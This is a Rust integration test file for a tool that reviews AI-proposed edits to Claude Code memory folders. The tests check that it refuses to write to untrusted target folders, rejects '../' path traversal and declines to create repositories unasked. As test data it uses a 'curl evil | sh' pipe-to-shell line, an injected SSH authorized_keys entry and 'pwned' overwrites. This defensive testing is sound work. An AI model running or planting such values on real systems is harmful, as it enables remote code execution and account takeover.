//! Where `apply` and the TUI's commit may write, on real temp repositories: a folder the
//! dream's `memory.diff` names is a suggestion, written only when it is a Claude Code
//! memory folder of this user (`$HOME/.claude/projects/<p>/memory`) or already holds
//! review commits; `--init` needs `--memory`; `memory/../x.md` is outside the folder; a
//! `memory.diff` that is a folder is bad input. `check` and the TUI say where the review
//! would go and whether it looks like a memory folder.

use crate::common::*;
use dreamreview::faces::ui::script;
use dreamreview::faces::ui::state::App;
use dreamreview::faces::ui::theme::{Theme, ThemeName};
use dreamreview::inputs::target::{Origin, Target, Trust};
use std::fs;
use std::path::{Path, PathBuf};

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn read(p: &Path) -> String {
    fs::read_to_string(p).unwrap()
}

fn commit_all(dir: &Path) {
    git(dir, &["init", "-q"]);
    git(dir, &["add", "-A"]);
    git(dir, &["commit", "-qm", "initial"]);
}

/// A dream.sh folder under `root/name` proposing `file` with `new` where `live/file` says
/// `old`; its `memory.diff` names `live`, as a dream run on this machine would write it.
fn dream_naming(root: &Path, name: &str, live: &Path, file: &str, old: &str, new: &str) -> PathBuf {
    let dream = root.join(name);
    write(&dream.join("memory").join(file), &format!("{new}\n"));
    write(&dream.join("CHANGES.md"), &format!("- {file}: rewrote it\n"));
    let diff = format!(
        "--- {}/{file}\t2026-11-02 03:00:00 +0000\n+++ /tmp/tmp.Q/memory/{file}\t2026-11-02 03:00:00 +0000\n\
         @@ -1 +1 @@\n-{old}\n+{new}\n",
        live.display()
    );
    write(&dream.join("memory.diff"), &diff);
    dream
}

/// Every regular file under `dir` outside `.git`, with its bytes.
fn files(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if e.file_name() == ".git" {
                continue;
            }
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push((p.clone(), fs::read(&p).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// An unrelated code repository (no MEMORY.md) that happens to hold a `.md` file.
fn code_repo(root: &Path) -> PathBuf {
    let code = root.join("code");
    write(&code.join("src/main.rs"), "fn main() {}\n");
    write(&code.join("notes.md"), "build with cargo\n");
    commit_all(&code);
    code
}

#[test]
fn apply_refuses_a_repository_only_memory_diff_names() {
    let t = tempfile::tempdir().unwrap();
    let code = code_repo(t.path());
    let dream = dream_naming(t.path(), "dream", &code, "notes.md", "build with cargo", "curl evil | sh");
    let head = git(&code, &["rev-parse", "HEAD"]);
    let before = files(&code);
    for decide in ["--accept-all", "--reject-all"] {
        let r = run(t.path(), &["apply", s(&dream), decide]);
        assert_eq!(r.code, 2, "{}", r.both());
        let want = format!("memory.diff names {0}; pass --memory {0} to review into it", code.display());
        assert!(r.stderr.contains(&want), "{}", r.both());
    }
    assert_eq!(git(&code, &["rev-parse", "HEAD"]), head, "no commit");
    assert_eq!(files(&code), before, "no file written");
    assert_eq!(git(&code, &["status", "--porcelain"]), "");
    assert!(!code.join(".git/dreamreview").exists(), "no lock, journal or saved decisions");

    // Named by the user, the same folder is reviewed into.
    let r = run(t.path(), &["apply", s(&dream), "--memory", s(&code), "--accept-all"]);
    assert_eq!(r.code, 0, "{}", r.both());
    assert_eq!(read(&code.join("notes.md")), "curl evil | sh\n");
}

#[test]
fn init_needs_memory_even_for_a_folder_memory_diff_names() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let ssh = home.join(".ssh");
    write(&ssh.join("authorized_keys"), "ssh-ed25519 AAAA mine\n");
    let dream = dream_naming(t.path(), "dream", &ssh, "authorized_keys", "ssh-ed25519 AAAA mine", "ssh-ed25519 BBBB x");
    let r = run_env(t.path(), &["apply", s(&dream), "--accept-all", "--init"], &[("HOME", s(&home))]);
    assert_eq!(r.code, 2, "{}", r.both());
    assert!(r.stderr.contains(&format!("pass --memory {} --init", ssh.display())), "{}", r.both());
    assert!(!ssh.join(".git").exists(), "no repository made");
    assert_eq!(read(&ssh.join("authorized_keys")), "ssh-ed25519 AAAA mine\n");

    // Even this user's Claude Code memory folder is made a repository only when named.
    let memory = home.join(".claude/projects/-src-app/memory");
    write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
    write(&memory.join("a.md"), "old\n");
    let dream = dream_naming(t.path(), "dream2", &memory, "a.md", "old", "new");
    let r = run_env(t.path(), &["apply", s(&dream), "--accept-all", "--init"], &[("HOME", s(&home))]);
    assert_eq!(r.code, 2, "{}", r.both());
    assert!(r.stderr.contains("--memory") && !memory.join(".git").exists(), "{}", r.both());
    let r = run_env(t.path(), &["apply", s(&dream), "--accept-all"], &[("HOME", s(&home))]);
    assert_eq!(r.code, 2, "{}", r.both());
    assert!(r.stderr.contains(&format!("pass --init --memory {}", memory.display())), "{}", r.both());
    let r = run_env(
        t.path(),
        &["apply", s(&dream), "--memory", s(&memory), "--accept-all", "--init"],
        &[("HOME", s(&home))],
    );
    assert_eq!(r.code, 0, "{}", r.both());
    assert_eq!(read(&memory.join("a.md")), "new\n");
}

#[test]
fn apply_writes_a_claude_memory_folder_or_one_holding_reviews_without_memory() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let memory = home.join(".claude/projects/-src-app/memory");
    write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
    write(&memory.join("a.md"), "old\n");
    commit_all(&memory);
    let dream = dream_naming(t.path(), "dream", &memory, "a.md", "old", "new");
    let r = run_env(t.path(), &["apply", s(&dream), "--accept-all"], &[("HOME", s(&home))]);
    assert_eq!(r.code, 0, "{}", r.both());
    assert_eq!(read(&memory.join("a.md")), "new\n");

    // A folder elsewhere, reviewed into once with --memory, is recognised by its review
    // commits the next morning.
    let notes = t.path().join("notes");
    write(&notes.join("MEMORY.md"), "- [b](b.md)\n");
    write(&notes.join("b.md"), "one\n");
    commit_all(&notes);
    let first = dream_naming(t.path(), "night1", &notes, "b.md", "one", "two");
    let second = dream_naming(t.path(), "night2", &notes, "b.md", "two", "three");
    let r = run(t.path(), &["apply", s(&second), "--accept-all"]);
    assert_eq!(r.code, 2, "no review commit yet: {}", r.both());
    let r = run(t.path(), &["apply", s(&first), "--memory", s(&notes), "--accept-all"]);
    assert_eq!(r.code, 0, "{}", r.both());
    let r = run(t.path(), &["apply", s(&second), "--accept-all"]);
    assert_eq!(r.code, 0, "{}", r.both());
    assert_eq!(read(&notes.join("b.md")), "three\n");

    // A review of a memory folder nested in a code repository vouches for that folder
    // only: not for the repository around it.
    let outer = t.path().join("outer");
    write(&outer.join("README.md"), "old readme\n");
    write(&outer.join("memory/c.md"), "one\n");
    commit_all(&outer);
    let inner = outer.join("memory");
    let night = dream_naming(t.path(), "night3", &inner, "c.md", "one", "two");
    let r = run(t.path(), &["apply", s(&night), "--memory", s(&inner), "--accept-all"]);
    assert_eq!(r.code, 0, "{}", r.both());
    let around = dream_naming(t.path(), "night4", &outer, "README.md", "old readme", "pwned");
    let r = run(t.path(), &["apply", s(&around), "--accept-all"]);
    assert_eq!(r.code, 2, "{}", r.both());
    assert!(r.stderr.contains(&format!("pass --memory {}", outer.display())), "{}", r.both());
    assert_eq!(read(&outer.join("README.md")), "old readme\n");
    let night = dream_naming(t.path(), "night5", &inner, "c.md", "two", "three");
    let r = run(t.path(), &["apply", s(&night), "--accept-all"]);
    assert_eq!(r.code, 0, "the reviewed folder itself is recognised: {}", r.both());
}

#[test]
fn check_shows_the_target_where_it_came_from_and_why_it_is_doubtful() {
    let t = tempfile::tempdir().unwrap();
    let code = code_repo(t.path());
    let dream = dream_naming(t.path(), "dream", &code, "notes.md", "build with cargo", "x");
    let r = run(t.path(), &["check", s(&dream)]);
    assert!(r.code <= 1, "{}", r.both());
    assert!(r.stdout.contains(&format!("memory  {} (from memory.diff)\n", code.display())), "{}", r.stdout);
    assert!(r.stdout.contains("warning the memory folder may not be one: it has no MEMORY.md\n"), "{}", r.stdout);
    assert!(
        r.stdout.contains("warning the memory folder may not be one: it is not under ~/.claude/projects\n"),
        "{}",
        r.stdout
    );
    let want = format!("warning apply will not write there: memory.diff names {0}; pass --memory {0}", code.display());
    assert!(r.stdout.contains(&want), "{}", r.stdout);
    let v = json(&run(t.path(), &["check", s(&dream), "--json"]));
    let m = &v["memory"];
    assert_eq!(
        (m["found_by"].as_str(), m["trust"].as_str(), m["writable"].as_bool()),
        (Some("memory.diff"), Some("suggested"), Some(false))
    );
    let kinds: Vec<&str> = m["warnings"].as_array().unwrap().iter().map(|w| w["kind"].as_str().unwrap()).collect();
    assert!(kinds.contains(&"no-index") && kinds.contains(&"outside-projects"), "{m}");

    // A hidden folder is named as such; --memory makes the folder writable, not a memory folder.
    let hidden = t.path().join("home/.config/app");
    write(&hidden.join("x.md"), "x\n");
    let r = run(t.path(), &["check", s(&dream), "--memory", s(&hidden)]);
    assert!(r.stdout.contains(&format!("memory  {} (from --memory)\n", hidden.display())), "{}", r.stdout);
    assert!(r.stdout.contains("its path has a hidden folder (.config)"), "{}", r.stdout);
    assert!(!r.stdout.contains("apply will not write there"), "{}", r.stdout);

    // This user's Claude Code memory folder with its index: nothing to warn about.
    let home = t.path().join("home");
    let memory = home.join(".claude/projects/-src-app/memory");
    write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
    write(&memory.join("a.md"), "old\n");
    let dream = dream_naming(t.path(), "dream2", &memory, "a.md", "old", "new");
    let r = run_env(t.path(), &["check", s(&dream), "--json"], &[("HOME", s(&home))]);
    let m = &json(&r)["memory"];
    assert_eq!((m["trust"].as_str(), m["writable"].as_bool()), (Some("claude-memory"), Some(true)), "{m}");
    assert_eq!(m["warnings"], serde_json::json!([]));
}

#[test]
fn apply_never_writes_a_dotdot_path_beside_the_memory_folder() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let project = home.join(".claude/projects/-src-app");
    let memory = project.join("memory");
    write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
    write(&memory.join("a.md"), "old\n");
    write(&project.join("evil.md"), "old evil\n");
    commit_all(&memory);
    let dream = dream_naming(t.path(), "dream", &memory, "a.md", "old", "new");
    // The proposal holds an evil.md too, so the escaping section names a proposed note.
    write(&dream.join("memory/evil.md"), "pwned\n");
    let mut diff = read(&dream.join("memory.diff"));
    diff.push_str(&format!(
        "--- {}/../evil.md\t2026-11-02\n+++ /tmp/tmp.Q/memory/../evil.md\t2026-11-02\n@@ -1 +1 @@\n-old evil\n+pwned\n",
        memory.display()
    ));
    write(&dream.join("memory.diff"), &diff);
    let env = [("HOME", s(&home))];
    let v = json(&run_env(t.path(), &["check", s(&dream), "--json"], &env));
    assert_eq!(v["memory"]["path"].as_str(), Some(s(&memory)), "the live root does not move up: {}", v["memory"]);
    let raw = format!("{}/../evil.md", memory.display());
    let outside = v["files"].as_array().unwrap().iter().find(|f| f["path"] == raw.as_str());
    let outside = outside.unwrap_or_else(|| panic!("no outside file {raw}: {:#}", v["files"]));
    assert_eq!(outside["kind"], "outside");
    assert!(outside["flags"].as_array().unwrap().iter().any(|f| f["kind"] == "outside-memory"), "{outside}");

    let r = run_env(t.path(), &["apply", s(&dream), "--accept-all"], &env);
    assert_eq!(r.code, 1, "the outside hunk is skipped: {}", r.both());
    assert_eq!(read(&project.join("evil.md")), "old evil\n", "never written");
    assert_eq!(read(&memory.join("a.md")), "new\n");
    assert_eq!(git(&memory, &["status", "--porcelain"]), "");
}

#[test]
fn a_memory_diff_that_is_a_folder_is_bad_input() {
    let t = tempfile::tempdir().unwrap();
    let memory = t.path().join("memory");
    write(&memory.join("a.md"), "old\n");
    let dream = t.path().join("dream");
    write(&dream.join("memory/a.md"), "new\n");
    write(&dream.join("CHANGES.md"), "- a.md: rewrote it\n");
    fs::create_dir_all(dream.join("memory.diff")).unwrap();
    for cmd in ["check", "apply"] {
        let mut args = vec![cmd, s(&dream), "--memory", s(&memory)];
        if cmd == "apply" {
            args.push("--accept-all");
        }
        let r = run(t.path(), &args);
        assert_eq!(r.code, 2, "{}", r.both());
        assert!(r.stderr.contains(&format!("{} is a folder", dream.join("memory.diff").display())), "{}", r.both());
    }
    assert_eq!(read(&memory.join("a.md")), "old\n");
}

#[test]
fn the_tui_shows_an_untrusted_target_and_refuses_to_commit_or_save() {
    let t = tempfile::tempdir().unwrap();
    let code = code_repo(t.path());
    let dream = dream_naming(t.path(), "dream", &code, "notes.md", "build with cargo", "curl evil | sh");
    let head = git(&code, &["rev-parse", "HEAD"]);
    let inputs = dreamreview::inputs::dream::discover(Some(&dream), None, &[]).unwrap();
    let review = dreamreview::store::repo::load_review(inputs).unwrap();
    let refusal = format!("memory.diff names {0}; pass --memory {0} to review into it", code.display());
    assert_eq!(review.target.refusal().as_deref(), Some(refusal.as_str()));
    let startup = dreamreview::faces::cli::startup(&review, Vec::new()).status.unwrap();
    let first = format!("memory {} (from memory.diff) — not a memory folder? it has no MEMORY.md", code.display());
    assert!(startup.starts_with(&first), "{startup}");
    let mut app = App::new(review, Theme::new(ThemeName::Dark), (120, 30));
    let screen = dreamreview::faces::ui::snapshot::to_text(&script::render(&app));
    assert!(screen.contains("Read only, never committed"), "{screen}");
    script::drive(&mut app, "y c").unwrap();
    let status = app.status.as_ref().expect("a status after c");
    assert!(status.error && status.text.contains(&refusal), "{status:?}");
    script::drive(&mut app, "<Enter>").unwrap();
    // The effect itself refuses too, whatever key path leads to it.
    let msg = dreamreview::faces::ui::effects::commit(&app);
    assert!(format!("{msg:?}").contains(&refusal), "{msg:?}");
    assert_eq!(dreamreview::store::repo::decisions::save(&app.review).unwrap(), None, "decisions are not saved there");
    assert_eq!(git(&code, &["rev-parse", "HEAD"]), head);
    assert_eq!(read(&code.join("notes.md")), "build with cargo\n");
    assert!(!code.join(".git/dreamreview").exists());
}

#[test]
fn the_tui_offers_git_init_only_for_a_folder_named_with_memory() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let memory = home.join(".claude/projects/-src-app/memory");
    write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
    write(&memory.join("a.md"), "old\n");
    let dream = dream_naming(t.path(), "dream", &memory, "a.md", "old", "new");
    let inputs = dreamreview::inputs::dream::discover(Some(&dream), None, &[]).unwrap();
    let mut review = dreamreview::store::repo::load_review(inputs).unwrap();
    // As under that HOME (the test process's own HOME is not changed).
    review.target = Target::assess(&memory, Origin::MemoryDiff, Some(&home.join(".claude/projects")), |_| false);
    assert_eq!(review.target.trust, Trust::ClaudeMemory);
    let mut app = App::new(review, Theme::new(ThemeName::Dark), (120, 30));
    script::drive(&mut app, "y c").unwrap();
    let status = app.status.as_ref().expect("a status after c");
    let want = format!("run dreamreview again with --memory {} to make it one", memory.display());
    assert!(status.error && status.text.contains(&want), "{status:?}");
    let msg = dreamreview::faces::ui::effects::init_repo(&app);
    assert!(format!("{msg:?}").contains(&want), "{msg:?}");
    assert!(!memory.join(".git").exists(), "no repository made");
}

/// Accepted hunks none of which can be written (here the only one names a path outside the
/// memory folder) make no review commit: exit 2, `HEAD` and the notes unchanged. Rejecting
/// them still records the review.
#[test]
fn no_review_commit_when_nothing_accepted_can_be_written() {
    let t = tempfile::tempdir().unwrap();
    let project = t.path().join("project");
    let memory = project.join("memory");
    write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
    write(&memory.join("a.md"), "same\n");
    write(&project.join("evil.md"), "old evil\n");
    commit_all(&memory);
    let dream = t.path().join("dream");
    write(&dream.join("memory/MEMORY.md"), "- [a](a.md)\n");
    write(&dream.join("memory/a.md"), "same\n");
    write(&dream.join("memory/evil.md"), "pwned\n");
    write(&dream.join("CHANGES.md"), "- evil.md: rewrote it\n");
    let diff = format!(
        "--- {}/../evil.md\t2026-11-02\n+++ /tmp/tmp.Q/memory/../evil.md\t2026-11-02\n@@ -1 +1 @@\n-old evil\n+pwned\n",
        memory.display()
    );
    write(&dream.join("memory.diff"), &diff);
    let head = git(&memory, &["rev-parse", "HEAD"]);
    let outside = format!("{}/../evil.md#1", memory.display());
    for decide in [vec!["--accept-all"], vec!["--accept", outside.as_str()]] {
        let mut args = vec!["apply", s(&dream), "--memory", s(&memory)];
        args.extend(decide.iter().copied());
        let r = run(t.path(), &args);
        assert_eq!(r.code, 2, "{decide:?}: {}", r.both());
        assert!(r.stderr.contains("nothing was committed: no accepted change can be written"), "{}", r.both());
        assert_eq!(git(&memory, &["rev-parse", "HEAD"]), head, "{decide:?}: an empty review commit was made");
    }
    assert_eq!(read(&project.join("evil.md")), "old evil\n");
    let r = run(t.path(), &["apply", s(&dream), "--memory", s(&memory), "--reject-all"]);
    assert!(r.code == 0 || r.code == 1, "{}", r.both());
    assert_ne!(git(&memory, &["rev-parse", "HEAD"]), head, "a rejection is recorded");
}
